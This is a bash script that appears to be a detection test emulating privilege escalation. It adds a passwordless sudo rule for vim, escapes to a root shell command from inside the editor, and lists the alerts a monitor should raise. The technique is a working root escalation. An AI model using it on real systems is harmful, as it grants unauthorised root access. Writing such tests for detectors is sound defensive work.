#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# behaviour: a user allowed to run vim with sudo (to edit config) runs a shell command from inside the editor
# as: user
# setup: echo "$SNTL_USER ALL=(root) NOPASSWD: /usr/bin/vim" > "/etc/sudoers.d/sntl-ev-$SNTL_ID" && chmod 440 "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# teardown: rm -f "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# expect: unusual_switch_user, unusual_child
set -u
sudo -n /usr/bin/vim /etc/motd -es -c ':silent !id > /dev/null' -c ':q!' < /dev/null
